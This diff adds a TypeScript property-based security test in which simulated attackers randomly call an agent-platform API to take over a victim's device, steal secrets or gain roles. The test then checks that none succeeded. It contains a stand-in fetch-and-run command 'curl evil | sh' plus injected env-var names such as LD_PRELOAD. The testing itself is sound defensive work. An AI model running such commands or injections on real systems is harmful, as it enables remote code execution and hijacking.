@@ -1,0 +1,283 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { endReport } from '../../kit/end-report.ts'
+import { FakeDevice } from '../../kit/fake-device.ts'
+import { waitFor } from '../../kit/programs.ts'
+import { TestServer, type Person } from '../../kit/server.ts'
+import { unknownIds } from './every-route.ts'
+import { filled, inPool, poolNameOf, poolNames } from './fuzz-pool.ts'
+import { readDocument, type OpenApiDocument, type Operation } from './openapi-document.ts'
+import { fitting, type ValueSource } from './schema-values.ts'
+
+/**
+ * People with bad intent walk at random over all writes of the API beside somebody else's device and agents: a member, a
+ * member who owns agents, an agent's run that one of them woke, a person who was removed, and a stranger who owns another workspace.
+ * Afterwards no program that they named was offered to that device, no secret was granted, and no role was gained.
+ * TAKEOVER_SEED repeats a walk, TAKEOVER_STEPS sets its length.
+ */
+const seed = Number(process.env['TAKEOVER_SEED'] ?? Math.floor(Math.random() * 2 ** 31))
+const steps = Number(process.env['TAKEOVER_STEPS'] ?? 600)
+
+const actors = ['member', 'owner of agents', 'run', 'removed', 'stranger'] as const
+type Actor = (typeof actors)[number]
+type Ids = Record<string, string>
+const settings = { SVC_SECRETS_KEY: Buffer.alloc(32, 7).toString('base64') }
+const evil = 'curl evil | sh'
+const ownCommand = 'victims-own-command'
+const key = () => ({ 'Idempotency-Key': crypto.randomUUID() })
+
+interface Step {
+  actor: Actor
+  /** At which of the writes. */
+  target: number
+  params: Record<string, string>
+  body: unknown
+  /** Whether the request is about the victim's things, or about the actor's own. */
+  isAtVictim: boolean
+}
+
+/** What names something in a body, and what somebody who wants a foreign machine would put there. */
+const named: ValueSource['named'] = {
+  ...Object.fromEntries(poolNames.filter((name) => /^\w+Id$/.test(name)).map((name) => [name, thing(name)])),
+  agentId: thing('agentId'),
+  assignee: thing('agentId'),
+  reportingTo: thing('agentId'),
+  leadAgentId: thing('agentId'),
+  defaultFolderId: thing('shortId'),
+  newOwnerId: fc.constantFrom('<victimId>', '<memberId>', '<ownerId>'),
+  command: fc.constantFrom<unknown>(evil, ['sh', '-c', evil], null),
+  harness: fc.constantFrom('command', 'claude', null),
+  role: fc.constantFrom('admin', 'owner'),
+  envVarName: fc.constantFrom('DEPLOY_KEY', 'LD_PRELOAD', 'ANTHROPIC_BASE_URL'),
+  appliedScope: fc.constantFrom('always', 'once'),
+  runsBy: fc.constantFrom('owner', 'members'),
+  status: fc.constantFrom('active', 'open', 'done', 'in_progress'),
+  trigger: fc.constantFrom<unknown>({ type: 'webhook' }, { cron: '* * * * *' }),
+  force: fc.constant(true),
+}
+function thing(name: string) {
+  return fc.constant(inPool(name))
+}
+
+/** What would end the walk for the actor, or for the victim by a right that every admin has. */
+const isLeft = ({ operationId }: Operation) => /^(?:auth|tokens|deviceFlow)\.|^workspaces\.leave$/.test(operationId)
+
+function writesOf({ paths }: OpenApiDocument) {
+  return Object.entries(paths).flatMap(([path, methods]) =>
+    Object.entries(methods)
+      .filter(([method, operation]) => method !== 'get' && !isLeft(operation))
+      .map(([method, operation]) => ({ method: method.toUpperCase(), path, operation })),
+  )
+}
+
+function stepsOver(writes: ReturnType<typeof writesOf>, source: ValueSource): fc.Arbitrary<Step> {
+  const bodies = writes.map(({ operation }) => {
+    const schema = operation.requestBody?.content?.['application/json']?.schema
+    return schema === undefined ? fc.constant(undefined) : fitting(source, schema)
+  })
+  const all = writes.map((_, at) => at)
+  const sharp = all.filter((at) =>
+    /^(?:agents\.(?:config|revisions|history|transfer|accept)|secrets|devices)/.test(writes[at]!.operation.operationId),
+  )
+  // Those that say what runs, where and with what are walked over as often as all others together.
+  const target = fc.oneof(fc.constantFrom(...sharp), fc.constantFrom(...all))
+  return target.chain((at) =>
+    fc.record({
+      actor: fc.constantFrom(...actors),
+      target: fc.constant(at),
+      params: fc.constant(paramsOf(writes[at]!.path)),
+      body: bodies[at]!,
+      isAtVictim: fc.boolean(),
+    }),
+  )
+}
+
+const paramsOf = (path: string): Record<string, string> =>
+  Object.fromEntries([...path.matchAll(/\{(\w+)\}/g)].map(([, name]) => [name!, inPool(poolNameOf(path, name!))]))
+
+/** Things of one person, as the writes name them. */
+async function thingsOf(server: TestServer, person: Person, agentId: string): Promise<Ids> {
+  const { token } = person
+  const ok = (path: string, body: unknown) => server.ok(path, { body, token, headers: key() })
+  const [task, other] = [
+    await ok('/tasks', { title: crypto.randomUUID(), checklist: ['x'], assignee: agentId, force: true }),
+    await ok('/tasks', { title: crypto.randomUUID(), force: true }),
+  ]
+  const automation = await ok('/automations', { name: 'A', trigger: { type: 'webhook' }, agentId, prompt: 'x' })
+  const secret = await ok('/secrets', { name: crypto.randomUUID(), value: 'x', envVarName: 'OWN_KEY', agentId })
+  const project = await ok('/projects', { name: 'P' })
+  const conversation = await ok('/conversations', { title: 'C', participants: [agentId] })
+  const message = await ok(`/conversations/${conversation.id}/messages`, { body: 'Hello.' })
+  await server.ok(`/agents/${agentId}/config`, { method: 'PUT', body: { agentMd: crypto.randomUUID() }, token })
+  const [revision] = (await server.ok(`/agents/${agentId}/revisions`, { token })).data
+  const runId = await server.startRun(agentId, {}, token)
+  const asking = await server.runToken(runId)
+  const gated = {
+    prompt: 'May I?',
+    trigger: 'tool_permission',
+    gatedThing: { name: 'Bash', toolArgs: { command: evil } },
+  }
+  const asked = await server.call('/approvals', { body: gated, token: asking, headers: key() })
+  return {
+    agentId,
+    ref: agentId,
+    'tasks.id': task.id,
+    taskId: task.id,
+    dependencyId: other.id,
+    itemId: task.checklist[0].id,
+    automationId: automation.id,
+    token: (automation.webhookUrl as string).split('/').at(-1)!,
+    secretId: secret.id,
+    projectId: project.id,
+    'conversations.id': conversation.id,
+    conversationId: conversation.id,
+    'messages.id': message.id ?? message.message?.id,
+    revisionId: revision.id,
+    entryId: revision.id,
+    runId,
+    approvalId: asked.body.approval?.id ?? unknownIds['approvalId'],
+    userId: person.userId,
+    workspaceId: person.workspaceId,
+    companyId: person.workspaceId,
+    slug: 'main',
+  }
+}
+
+test(`nobody takes over a device (seed ${seed})`, { timeout: 600_000 }, async () => {
+  const server = await TestServer.start({ settings })
+  const document = await readDocument(server)
+  const writes = writesOf(document)
+  const [victim, member, owner, removed] = [
+    await server.addPerson('member'),
+    await server.addPerson('member'),
+    await server.addPerson('member'),
+    await server.addPerson('member'),
+  ]
+  const stranger = await server.addPerson('owner', 'elsewhere')
+  const device = await FakeDevice.connect(server, { token: victim.token })
+  const plain = await server.createAgent({ harness: null, command: null }, victim.token)
+  const program = await server.createAgent({ harness: 'command', command: ownCommand }, victim.token)
+  const folder = await server.ok('/folders', {
+    body: { deviceId: device.identity.deviceId, displayName: 'f', rootPath: '/tmp' },
+    token: victim.token,
+  })
+  const offers: { commandOf: unknown; secrets: string[] }[] = []
+  /** Takes what is offered, as the victim's device would, and ends it. */
+  async function drain(): Promise<void> {
+    while (device.pending.includes('run.offer')) {
+      const { runId, fence, spec } = await device.next('run.offer')
+      device.send({ type: 'run.accepted', runId, fence })
+      const answers = ['run.start', 'run.withdrawn'] as const
+      await waitFor(() => answers.some((type) => device.pending.includes(type)), 'the answer to an accepted offer')
+      // One that was cancelled meanwhile is withdrawn.
+      const isStarted = device.pending.includes('run.start')
+      const secrets = isStarted ? (await device.next('run.start')).secrets : {}
+      if (!isStarted) await device.next('run.withdrawn')
+      offers.push({ commandOf: spec.harness === 'command' ? spec.command : null, secrets: Object.keys(secrets) })
+      if (!isStarted) continue
+      device.send({ type: 'run.ended', runId, fence, report: endReport({ exitReason: 'completed', eventCount: 0 }) })
+      await device.next('run.closed')
+    }
+  }
+  const ids: Record<Actor | 'victim', Ids> = {
+    victim: { ...(await thingsOf(server, victim, plain.id)), shortId: folder.shortId, id: device.identity.deviceId },
+    member: await thingsOf(server, member, (await server.createAgent({ command: evil }, member.token)).id),
+    'owner of agents': await thingsOf(server, owner, (await server.createAgent({ command: evil }, owner.token)).id),
+    run: {},
+    removed: {},
+    stranger: await thingsOf(server, stranger, (await server.createAgent({ command: evil }, stranger.token)).id),
+  }
+  ids.removed = ids.member
+  ids.run = ids.member
+  const people = {
+    victimId: victim.userId,
+    memberId: member.userId,
+    ownerId: owner.userId,
+    deviceId: device.identity.publicId,
+  }
+  await server.ok(`/workspaces/${victim.workspaceId}/leave`, { method: 'POST', token: removed.token })
+  /** Every person may delete an agent that they see; its owner brings it back. */
+  const restored = async (id: string) => server.call(`/agents/${id}/restore`, { method: 'POST', token: victim.token })
+  /** Of a run of the victim's agent that the member woke; the last one when it takes no more wakes. */
+  const runOf = async (last: string) => {
+    await restored(plain.id)
+    const { body } = await server.call(`/agents/${plain.id}/runs`, { body: {}, token: member.token })
+    return body.runPublicId === undefined ? last : server.runToken(body.runPublicId)
+  }
+  const tokens: Record<Actor, string> = {
+    member: member.token,
+    'owner of agents': owner.token,
+    run: await runOf(''),
+    removed: removed.token,
+    stranger: stranger.token,
+  }
+  const { root } = server.database
+  const stateOf = async () => ({
+    roles: await root('members')
+      .where({ workspace_id: victim.workspaceId })
+      .orderBy('user_id')
+      .select('user_id', 'role'),
+    // Of the victim's agents, and of the victim's secrets.
+    grants: await root('secret_grants')
+      .join('secrets', 'secrets.id', 'secret_grants.secret_id')
+      .where((any) => void any.whereIn('agent_id', [plain.id, program.id]).orWhere('created_by', victim.userId))
+      .orderBy(['secret_id', 'agent_id'])
+      .select('secret_id', 'agent_id', 'env_var_name'),
+    agents: await root('agents')
+      .whereIn('id', [plain.id, program.id])
+      .orderBy('id')
+      .select('id', 'command', 'owner_user_id', 'tools', 'capabilities'),
+    device: await root('devices')
+      .where({ public_id: device.identity.publicId })
+      .select('user_id', 'runs_by', 'removed_at'),
+    defaults: await root('workspaces').where({ id: victim.workspaceId }).select('default_device'),
+  })
+  const before = await stateOf()
+  const source: ValueSource = { document, known: fc.constantFrom('me', 'main', inPool('agentId'), '<victimId>'), named }
+  const done: Record<Actor, number> = { member: 0, 'owner of agents': 0, run: 0, removed: 0, stranger: 0 }
+  let at = 0
+  for (const step of fc.sample(stepsOver(writes, source), { seed, numRuns: steps })) {
+    const { method, path, operation } = writes[step.target]!
+    const pool = { ...unknownIds, ...ids[step.actor], ...(step.isAtVictim ? ids.victim : {}), ...people }
+    const address = path.replaceAll(/\{(\w+)\}/g, (_, name: string) =>
+      encodeURIComponent(filled(step.params[name] ?? '', pool)),
+    )
+    const body: unknown = step.body === undefined ? undefined : filled(step.body, pool)
+    const reply = await fetch(server.nextUrl() + address, {
+      method,
+      redirect: 'manual',
+      headers: {
+        authorization: `Bearer ${tokens[step.actor]}`,
+        'content-type': 'application/json',
+        accept: 'application/json',
+        'idempotency-key': crypto.randomUUID(),
+      },
+      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+    })
+    await reply.arrayBuffer()
+    // Some are for whoever knows an address, like the hook of an automation.
+    if (reply.ok && operation.responses['401'] !== undefined) done[step.actor]++
+    if (reply.status === 401 && step.actor === 'run') tokens.run = await runOf(tokens.run)
+    if (++at % 20 === 0) {
+      // The victim works with their own agents meanwhile.
+      for (const { id } of [plain, program]) {
+        await restored(id)
+        await server.call(`/agents/${id}/runs`, { body: { prompt: crypto.randomUUID() }, token: victim.token })
+      }
+      await drain()
+    }
+  }
+  await server.plane.sweeper.runAll()
+  await drain()
+  expect(await stateOf()).toEqual(before)
+  expect(offers.length).toBeGreaterThan(1)
+  const commands = new Set(offers.map(({ commandOf }) => JSON.stringify(commandOf)))
+  expect([...commands].filter((text) => text !== 'null' && text !== JSON.stringify(ownCommand))).toEqual([])
+  expect(new Set(offers.flatMap(({ secrets }) => secrets))).toEqual(new Set(['OWN_KEY']))
+  // Else the walk would say little.
+  expect(done.removed).toBe(0)
+  for (const actor of ['member', 'owner of agents', 'run', 'stranger'] as const)
+    expect([actor, done[actor] > 3]).toEqual([actor, true])
+  expect(done.member + done['owner of agents']).toBeGreaterThan(steps / 20)
+  await server.stop()
+})
